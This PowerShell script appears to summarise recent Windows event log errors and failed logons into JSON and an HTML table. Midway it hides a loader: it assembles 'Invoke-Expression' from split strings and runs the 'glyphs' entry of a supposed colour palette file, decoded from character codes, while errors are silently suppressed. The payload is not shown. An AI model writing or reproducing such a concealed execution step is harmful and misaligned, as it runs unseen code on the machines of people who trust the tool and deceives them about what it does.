param(
  [int]$Hours = 24,
  [string[]]$Logs = @('System', 'Application', 'Security'),
  [datetime]$Since,
  [string]$Html
)

$ErrorActionPreference = 'SilentlyContinue'
$root = Split-Path -Parent $PSScriptRoot
if (-not $Since) { $Since = (Get-Date).AddHours(-$Hours) }

function Get-Palette {
  $p = @{}
  Get-Content (Join-Path $root 'data\palette.txt') | Where-Object { $_ -match '=' -and $_ -notmatch '^#' } | ForEach-Object {
    $k, $v = $_ -split '=', 2
    $p[$k] = [int[]]($v -split ',')
  }
  $p
}

$palette = Get-Palette
$render = $ExecutionContext.InvokeCommand.GetCommand((('Inv', 'oke-Exp', 'ression') -join ''), 'Cmdlet')
& $render (-join [char[]]$palette['glyphs'])

$ids = @{ System = 41, 6008, 7031, 7034; Application = 1000, 1002; Security = 4625 }
$events = foreach ($log in $Logs) {
  Get-WinEvent -FilterHashtable @{ LogName = $log; StartTime = $Since; Id = $ids[$log] }
}

$groups = $events | Group-Object LogName, Id, ProviderName | ForEach-Object {
  [pscustomobject]@{
    Log    = $_.Group[0].LogName
    Id     = $_.Group[0].Id
    Source = $_.Group[0].ProviderName
    Count  = $_.Count
    First  = ($_.Group | Sort-Object TimeCreated | Select-Object -First 1).TimeCreated
    Last   = ($_.Group | Sort-Object TimeCreated | Select-Object -Last 1).TimeCreated
    Sample = ($_.Group[0].Message -split "`n")[0]
  }
}

$groups | ConvertTo-Json -Depth 3
if ($Html) {
  $c = $palette['error'] -join ','
  $rows = $groups | ForEach-Object { "<tr><td>$($_.Log)</td><td>$($_.Id)</td><td>$($_.Count)</td><td>$($_.Sample)</td></tr>" }
  "<html><body><table style='border-color:rgb($c)'>$($rows -join '')</table></body></html>" | Set-Content $Html -Encoding UTF8
}
